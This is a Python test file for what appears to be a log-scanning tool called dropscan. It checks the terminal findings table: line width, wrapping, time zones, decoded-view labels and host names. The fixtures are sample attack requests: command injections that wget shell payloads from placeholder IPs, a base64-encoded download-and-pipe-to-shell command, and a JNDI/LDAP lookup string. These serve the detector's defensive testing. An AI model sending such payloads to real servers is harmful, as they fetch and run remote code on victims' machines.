"""The findings table a person reads at a terminal: 80 columns, one time zone, honest labels,
the report's host names."""

from __future__ import annotations

import base64
import io
import json
import re
import subprocess
import sys
from datetime import UTC, datetime

from hypothesis import given, settings
from hypothesis import strategies as st
from rich.cells import cell_len

from conftest import SAMPLE_LOGS, cli_run, combined_line
from dropscan.detect.egress import Destination
from dropscan.detect.findings import Finding
from dropscan.outputs.writers import TableWriter

RAW_CONTROL = re.compile(r"[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def table(runner, *args, env=None) -> list[str]:
    r = cli_run(runner, ["scan", *args, "-f", "table"], env=env or {"COLUMNS": "80"})
    assert r.exit_code == 1, r.stderr
    return r.stdout.splitlines()


LONG = "/cgi-bin/x?c=" + ";".join(f"wget http://203.0.113.{i}/payload-{i}.sh" for i in range(1, 40))


def test_every_line_fits_80_columns_and_long_text_is_wrapped_then_cut(runner, tmp_path):
    log = tmp_path / "web1-access.log"
    log.write_bytes(combined_line(LONG, client="2001:db8:ffff:ffff:ffff:ffff:ffff:1"))
    lines = table(runner, str(log), str(SAMPLE_LOGS))
    assert max(map(len, lines)) <= 80
    row, dest, *text = lines[1:6]
    assert row.startswith("2026-11-27 10:00:00  critical  200  2001:db8:ffff:…  web1")
    assert dest.startswith("    dropper.wget") and "→ http://203.0.113.1:80 (+38)" in dest
    assert text[0].startswith("    target: /cgi-bin/x?c=wget http://203.0.113.1/payload-1.sh;")
    assert text[2].endswith(" …") and text[2].startswith(" " * len("    target: "))  # wrapped under, then cut
    assert not lines[6].startswith("    ")  # three lines of text at most: then the next finding


def test_width_follows_the_terminal(runner):
    wide = table(runner, str(SAMPLE_LOGS), env={"COLUMNS": "132"})
    assert max(map(len, wide)) > 80 and max(map(len, wide)) <= 132


def test_times_are_in_one_named_zone(runner, tmp_path):
    log = tmp_path / "access.log"
    log.write_bytes(
        combined_line("/?c=;wget%20h1/x", when="[27/Nov/2026:10:00:00 +0100]")
        + combined_line("/?c=;wget%20h2/x", when="[27/Nov/2026:10:00:00 +0000]")
    )
    first_offset = table(runner, str(log))
    assert first_offset[0].startswith("TIME (+01:00)")
    assert first_offset[1].startswith("2026-11-27 10:00:00") and first_offset[4].startswith("2026-11-27 11:00:00")
    utc = table(runner, str(log), "--tz", "UTC")
    assert utc[0].startswith("TIME (UTC)")
    assert utc[1].startswith("2026-11-27 09:00:00") and utc[4].startswith("2026-11-27 10:00:00")
    berlin = table(runner, str(log), "--tz", "Europe/Berlin")
    assert berlin[0] == "times in Europe/Berlin" and berlin[2].startswith("2026-11-27 10:00:00")
    bad = subprocess.run(
        [sys.executable, "-m", "dropscan", "scan", str(log), "--tz", "Mars/Olympus"], capture_output=True, text=True
    )
    assert bad.returncode == 2 and bad.stderr.startswith("dropscan: error: unknown time zone 'Mars/Olympus'")


def test_the_decoded_view_is_labelled_for_what_it_is(runner, tmp_path):
    blob = base64.b64encode(b"wget http://203.0.113.56/x.sh -O- | sh").decode()
    log = tmp_path / "access.log"
    log.write_bytes(
        combined_line(f"/?c=echo%20{blob}%7Cbase64%20-d%7Csh")
        + combined_line("/?q=${${lower:j}ndi:ldap://198.51.100.9:1389/a}")
        + combined_line("/?c=;wget%20http://203.0.113.7/a")
    )
    lines = table(runner, str(log), env={"COLUMNS": "120"})
    texts = [x.strip() for x in lines if x.startswith("    ") and "→" not in x]
    assert texts[0] == "target, base64-decoded: wget http://203.0.113.56/x.sh -O- | sh"
    assert texts[1] == "target, lookups resolved: /?q=${jndi:ldap://198.51.100.9:1389/a}"
    assert texts[2] == "target: /?c=;wget http://203.0.113.7/a"


def test_host_names_are_those_of_the_report(runner):
    rows = [x for x in table(runner, str(SAMPLE_LOGS), env={"COLUMNS": "120"})[1:] if x[:1].isdigit()]
    hosts = {x.split()[5] for x in rows}
    report = json.loads(cli_run(runner, ["report", str(SAMPLE_LOGS), "-f", "json"]).stdout)
    assert hosts == {h["host"] for h in report["hosts"]}
    named = table(runner, str(SAMPLE_LOGS / "access.log"), "--host", "Web7")
    assert named[1].split()[-1] == "web7"


TEXT = st.text(st.characters(codec="utf-8"), max_size=400)


@settings(max_examples=300, deadline=None)
@given(
    width=st.integers(60, 200),
    decoded=TEXT,
    host=st.text(max_size=80),
    client=st.text(max_size=60),
    dest=st.text(min_size=1, max_size=120),
    field=st.sampled_from(["target", "user_agent", "referer", "x-very-long-logged-header-name-from-a-logformat"]),
    view=st.sampled_from(["url", "cmd", "base64", "base64+cmd", "jndi"]),
)
def test_every_line_fits_the_width_whatever_the_text(width, decoded, host, client, dest, field, view):
    """Wide (CJK) and zero-width characters, controls, long words: no line exceeds the width in
    terminal cells, nothing raw reaches the terminal, and the text is never more than 3 lines."""
    f = Finding(
        log_file="/var/log/apache2/access.log",
        line_no=1,
        offset=0,
        timestamp=datetime(2026, 11, 27, 10, 0, tzinfo=UTC),
        vhost=host or None,
        client_ip=client,
        method="GET",
        request="GET / HTTP/1.1",
        status=200,
        bytes=1,
        user_agent=None,
        referer=None,
        field=field,
        decoded=decoded,
        rule_ids=["dropper.wget", "shell.cmd"],
        category="dropper",
        severity="critical",
        egress=[Destination(dest, 80, "http", False)],
        view=view,
    )
    out = io.StringIO()
    w = TableWriter(out, width=width, defanged=True)
    w.write(f)
    w.write(f)
    lines = out.getvalue().splitlines()
    assert all(cell_len(x) <= width for x in lines), [x for x in lines if cell_len(x) > width]
    assert not RAW_CONTROL.search(out.getvalue().replace("\n", ""))
    rows = [i for i, x in enumerate(lines) if x.startswith("2026-")]
    assert len(rows) == 2 and rows[1] - rows[0] <= 2 + 3 + 1  # row, rule, at most 3 text lines (+ a label line)
